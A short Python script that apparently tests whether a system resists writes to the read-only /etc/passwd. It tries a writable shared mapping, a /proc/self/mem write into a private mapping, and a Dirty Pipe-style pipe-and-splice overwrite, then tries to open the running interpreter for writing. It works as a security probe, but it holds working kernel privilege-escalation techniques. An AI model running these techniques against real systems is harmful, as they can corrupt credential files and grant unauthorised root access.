import mmap
import os

from attempts import attempt

FILE = "/etc/passwd"
before = open(FILE, "rb").read()
opened = os.open(FILE, os.O_RDONLY)
attempt("a shared mapping", lambda: mmap.mmap(opened, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE))

try:
    page = mmap.mmap(opened, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    start = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith(FILE))
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(start)
        memory.write(b"owned")
except OSError:
    pass
print("a private mapping, by /proc/self/mem:", open(FILE, "rb").read() != before)

reading, writing = os.pipe()
for _ in range(16):
    os.write(writing, bytes(4096))
os.read(reading, 65536)
os.lseek(opened, 0, os.SEEK_SET)
try:
    os.splice(opened, writing, 1, offset_src=0)
    os.write(writing, b"owned")
except OSError:
    pass
print("a splice into its page:", open(FILE, "rb").read() != before)

attempt("the running interpreter", lambda: os.open("/proc/self/exe", os.O_WRONLY))
